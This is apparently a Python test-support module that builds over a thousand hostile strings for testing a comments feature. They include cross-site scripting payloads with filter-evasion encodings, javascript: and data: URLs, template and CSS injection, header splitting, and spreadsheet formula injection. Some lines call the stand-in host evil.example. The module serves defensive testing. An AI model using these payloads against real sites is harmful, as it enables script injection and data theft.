"""More than a thousand hostile strings: what runs × how it is written × where it breaks out of.

Each calls `zqx()`, asks `evil.example` for something, or breaks a line, a cell or a direction; a
browser that opens a page with them can watch for all of it. The short classes of
`tests.comments.attacks`, which every form takes by name, are among them.
"""

from base64 import b64encode
from collections.abc import Callable, Iterator
from functools import cache
from urllib.parse import quote

from tests.comments.attacks import every_attack

CALL = "zqx()"

# Elements that run something once they are on a page, each in its own way.
RUNS = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}></svg>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<details open ontoggle={CALL}>zqx</details>",
    f"<body onload={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f'<iframe src="javascript:parent.{CALL}"></iframe>',
    f'<object data="javascript:{CALL}"></object>',
    f'<embed src="javascript:{CALL}">',
    f'<a href="javascript:{CALL}" autofocus>zqx</a>',
    f'<form action="javascript:{CALL}"><button>zqx</button></form>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}></style></mglyph></table></mtext></math>",
    f"<svg></p><style><a id=\"</style><img src=x onerror={CALL}>\">",
    f"<noscript><p title=\"</noscript><img src=x onerror={CALL}>\"></noscript>",
    f"<template><img src=x onerror={CALL}></template>",
    "<style>@import'//evil.example/zqx';*{background:url(//evil.example/zqx)}</style>",
    "<link rel=stylesheet href=//evil.example/zqx.css>",
    "<base href=//evil.example/zqx/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/zqx'>",
    f'<p style="background:url(//evil.example/zqx);width:expression({CALL})">zqx</p>',
    "<img srcset=//evil.example/zqx.png src=//evil.example/zqx.png>",
)  # fmt: skip

# Where a text may stand, and what would end it there.
BREAK_OUTS = (
    '">', "'>", "`>", ' x="', "</title>", "</textarea>", "</script>", "</style>", "</noscript>",
    "-->", "]]>", "</p></div></main>", "</a></h1>", '"}</script>', '\\"}];', "*/", "?>", "%>",
    "</select>", "</xmp>", "</iframe>", "{{", "\n\n", "[x](",
)  # fmt: skip


def cased(text: str) -> str:
    return "".join(c.upper() if n % 2 else c.lower() for n, c in enumerate(text))


def between(mark: str) -> Callable[[str], str]:
    """Puts a mark into the first name of a tag or scheme, where some parsers look over it."""
    return lambda text: text[:4] + mark + text[4:]


def entities(pattern: str) -> Callable[[str], str]:
    return lambda text: "".join(pattern.format(ord(c)) for c in text)


ENCODINGS: dict[str, Callable[[str], str]] = {
    "upper": lambda text: text.replace(CALL, "&#122;&#113;&#120;()").upper(),
    "mixed case": lambda text: cased(text).replace(cased(CALL), CALL),
    "decimal entities": entities("&#{};"),
    "hexadecimal entities": entities("&#x{:x};"),
    "entities without an end": entities("&#{:07} "),
    "named entities": lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    "named twice": lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    "percent": lambda text: quote(text, safe=""),
    "percent twice": lambda text: quote(quote(text, safe=""), safe=""),
    "JavaScript": lambda text: "".join(f"\\u{ord(c):04x}" for c in text),
    "full width": lambda text: text.replace("<", "＜").replace(">", "＞"),
    "UTF-7": lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    "data": lambda text: "<iframe src=data:text/html;base64," + b64encode(text.encode()).decode() + ">",
    "tab": between("\t"),
    "line break": between("\n"),
    "zero width": between("\u200b"),
    "soft hyphen": between("\xad"),
    "comment": between("<!--zqx-->"),
    "slash": lambda text: text.replace(" ", "/"),
    "no-break space": lambda text: text.replace(" ", "\xa0"),
    "open end": lambda text: text.rstrip(">"),
    "doubled": lambda text: text.replace("<", "<<").replace(">", ">>"),
    "nested": lambda text: text.replace("<", "<scr<script>ipt><", 1),
    "turned": lambda text: f"\u202e{text}\u202c",
}  # fmt: skip

EVENTS = [
    "afterprint",
    "animationend",
    "animationiteration",
    "animationstart",
    "auxclick",
    "beforecopy",
    "beforecut",
    "beforeinput",
    "beforematch",
    "beforepaste",
    "beforeprint",
    "beforetoggle",
    "beforeunload",
    "begin",
    "blur",
    "cancel",
    "canplay",
    "change",
    "click",
    "close",
    "contextmenu",
    "copy",
    "cut",
    "dblclick",
    "drag",
    "drop",
    "durationchange",
    "end",
    "ended",
    "error",
    "focus",
    "focusin",
    "focusout",
    "formdata",
    "gotpointercapture",
    "hashchange",
    "input",
    "invalid",
    "keydown",
    "keyup",
    "load",
    "loadeddata",
    "loadstart",
    "message",
    "mousedown",
    "mouseenter",
    "mousemove",
    "mouseover",
    "mousewheel",
    "pagereveal",
    "pageshow",
    "paste",
    "pause",
    "play",
    "playing",
    "pointerdown",
    "pointerenter",
    "pointermove",
    "pointerover",
    "pointerrawupdate",
    "popstate",
    "progress",
    "repeat",
    "resize",
    "reset",
    "scroll",
    "scrollend",
    "scrollsnapchange",
    "search",
    "securitypolicyviolation",
    "seeked",
    "select",
    "selectionchange",
    "show",
    "slotchange",
    "submit",
    "suspend",
    "timeupdate",
    "toggle",
    "touchstart",
    "transitionend",
    "transitionrun",
    "unhandledrejection",
    "unload",
    "volumechange",
    "webkitanimationstart",
    "wheel",
]

SCHEMES = (
    f"javascript:{CALL}", f"JAVASCRIPT:{CALL}", f" javascript:{CALL}", f"\x01javascript:{CALL}",
    f"java\tscript:{CALL}", f"java\nscript:{CALL}", f"java&Tab;script:{CALL}", f"javascript&colon;{CALL}",
    f"&#106;avascript:{CALL}", f"&#x6a&#x61vascript:{CALL}", f"javascript:/*zqx*/{CALL}",
    f"javascript://%0a{CALL}", f"feed:javascript:{CALL}", f"vbscript:{CALL}", f"livescript:{CALL}",
    f"data:text/html,<script>parent.{CALL}</script>", "data:text/html;base64,PHNjcmlwdD56cXgoKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={CALL}>", "blob:https://evil.example/zqx", "filesystem:zqx",
    "file:///etc/zqx", "view-source:zqx", "//evil.example/zqx", "\\\\evil.example\\zqx",
    "https:evil.example/zqx", "https://evil.example\\@zqx", f"https://evil.example/'onclick='{CALL}",
)  # fmt: skip
URL_PLACES = (
    '<a href="{}">zqx</a>', "<a href='{}'>zqx</a>", "<a href={}>zqx</a>", '<img src="{}">',
    '<form action="{}"><input type=submit value=zqx></form>', '<button formaction="{}">zqx</button>',
    '<svg><a xlink:href="{}"><text>zqx</text></a></svg>', '<iframe src="{}"></iframe>', "[zqx]({})",
    '<blockquote cite="{}">zqx</blockquote>', '<meta http-equiv="refresh" content="0;{}">', "{}",
)  # fmt: skip

PLAIN = (
    # Templates of the server's and the browser's kinds.
    *["{{7*7}}zqx", "${zqx()}", "#{zqx()}", "<%= zqx() %>", "{% include 'zqx' %}", "{{constructor.constructor('zqx()')()}}"],
    *["{%load zqx%}", "[[${zqx()}]]", "@{zqx()}", "{{=zqx()}}", "`${zqx()}`", "%{zqx()}"],
    # JSON-LD and other data in a script element.
    *['"}}</script><script>zqx()</script>', '\\u003c/script\\u003e<script>zqx()</script>', "</ScRiPt ><script>zqx()//"],
    *['","url":"javascript:zqx()","x":"', "<!--<script>zqx()", "]]]]><![CDATA[>zqx", "\u2028zqx()\u2029"],
    # CSS.
    *["zqx;background:url(//evil.example/zqx)", "}*{background:url(//evil.example/zqx)}", "expression(zqx())"],
    *["@import url(//evil.example/zqx);", "-moz-binding:url(//evil.example/zqx)", "\\3c script\\3e zqx()"],
    # Headers, cells, directions, nothing to be seen.
    *["zqx\r\nSet-Cookie: zqx=1", "zqx%0d%0aLocation: //evil.example", "zqx\nContent-Type: text/html\n\n<script>zqx()</script>"],
    *[f"{sign}{rest}" for sign in "=+-@\t＝＋－＠" for rest in ("zqx()", "cmd|'/C zqx'!A0", "1+1+zqx", 'HYPERLINK("//evil.example/zqx")')],
    *[f"zqx{mark}gpj.exe" for mark in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"],
    *[f"z{mark}q{mark}x<b>" for mark in "\xad\u200b\u200c\u200d\u2060\u2063\ufeff\u115f\u3164\u180e\U000e0041"],
    "zqx\x7f\x85\x9b31m", "zqx\ufffe\uffff", "zqx\ufdd0",
)  # fmt: skip


@cache
def strings() -> tuple[str, ...]:
    """Every attack once."""
    return tuple(dict.fromkeys([*every_attack(), *_made()]))


def _made() -> Iterator[str]:
    for run in RUNS:
        yield run
        for way in ENCODINGS.values():
            yield way(run)
        for end in BREAK_OUTS:
            yield end + run
    for event in EVENTS:
        yield f"<x on{event}={CALL} contenteditable tabindex=1>zqx</x>"
        yield f'" on{event}="{CALL}" zqx="'
        yield f"<svg/on{event}='{CALL}'>"
    for place in URL_PLACES:
        for scheme in SCHEMES:
            yield place.format(scheme)
    yield from PLAIN


def packed(limit: int, *, parted: str = "\n") -> list[str]:
    """All strings that are no longer than that, in as few texts as a field of that length takes."""
    texts, length = [[]], 0
    for string in strings():
        # A browser sends a line break as two characters.
        size = len(string.replace("\n", "\r\n")) + len(parted.replace("\n", "\r\n"))
        if size > limit:
            continue
        if length + size > limit:
            texts.append([])
            length = 0
        texts[-1].append(string)
        length += size
    return [parted.join(text) for text in texts]
